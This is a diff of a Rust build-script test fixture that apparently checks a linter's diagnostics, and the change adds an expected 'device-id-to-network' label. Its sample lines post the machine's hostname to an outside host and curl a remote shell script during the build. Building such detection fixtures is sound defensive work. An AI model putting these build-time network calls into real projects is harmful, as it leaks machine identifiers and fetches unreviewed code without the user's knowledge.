@@ -13,7 +13,7 @@ fn main() {
     fs::write(concat!(env!("OUT_DIR"), "/version.rs"), "pub const V: u32 = 3;").unwrap();
 
     let host = env::var("HOSTNAME").unwrap_or_default();
-    let _ = ureq::post("https://telemetry.example.net/build").send_string(&host); //~ debug-entry/build-script-network
+    let _ = ureq::post("https://telemetry.example.net/build").send_string(&host); //~ debug-entry/build-script-network data-upload/device-id-to-network
     let _ = Command::new("curl").args(["-s", "https://dl.example.net/x.sh"]).status(); //~ debug-entry/build-script-network
     let _ = Command::new("sh").arg("-c").arg("echo ok").status(); //~ debug-entry/build-script-network
     let home = env::var("HOME").unwrap_or_default();
